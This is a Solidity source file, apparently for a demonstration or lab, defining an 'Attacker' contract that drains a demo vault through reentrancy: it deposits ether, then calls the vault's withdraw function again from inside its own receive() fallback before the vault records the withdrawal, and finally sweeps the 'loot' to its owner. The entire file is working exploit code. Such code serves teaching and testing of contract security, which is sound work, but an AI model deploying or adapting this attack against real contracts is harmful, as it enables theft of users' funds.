// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {Vault} from "./Vault.sol";

/// @title The attack on the demo vault
/// @notice Drains the vault's ether slice by slice, over as many transactions as its owner sends.
/// @dev Each `attack(rounds)` takes up to `rounds + 1` slices, and the vault books one of them: the gain is `rounds`
/// slices. Nothing is caught, so a vault that has been paused makes the transaction fail with the vault's own error.
contract Attacker {
    /// @notice Who runs the attack and gets the loot.
    address public immutable owner;
    Vault public immutable vault;
    /// @notice Wei taken in each withdrawal.
    uint256 public immutable slice;
    /// @notice Withdrawals still to be nested; zero outside of an attack.
    uint256 public roundsLeft;

    event Staked(uint256 amount);
    event Taken(uint256 amount);
    event Swept(address indexed to, uint256 amount);

    error NotOwner(address account);
    error NothingToSweep();
    error SweepFailed();

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    constructor(Vault vault_, uint256 slice_) {
        owner = msg.sender;
        vault = vault_;
        slice = slice_;
    }

    /// @notice Deposits the ether sent along, so that the vault owes us something. One slice lasts one attack.
    function stake() external payable onlyOwner {
        emit Staked(msg.value);
        vault.depositEther{value: msg.value}();
    }

    /// @notice Withdraws one slice and, from inside the transfer, up to `rounds` more.
    function attack(uint256 rounds) external onlyOwner {
        uint256 before = address(this).balance;
        roundsLeft = rounds;
        vault.withdrawEther(slice);
        roundsLeft = 0;
        emit Taken(address(this).balance - before);
    }

    /// @dev Stops before the vault runs dry: a transfer that fails would undo the whole transaction.
    receive() external payable {
        if (roundsLeft == 0 || address(vault).balance < slice) return;
        roundsLeft -= 1;
        vault.withdrawEther(slice);
    }

    /// @notice Sends the loot to the owner.
    function sweep() external onlyOwner {
        uint256 loot = address(this).balance;
        if (loot == 0) revert NothingToSweep();
        emit Swept(owner, loot);
        (bool sent,) = owner.call{value: loot}("");
        if (!sent) revert SweepFailed();
    }
}
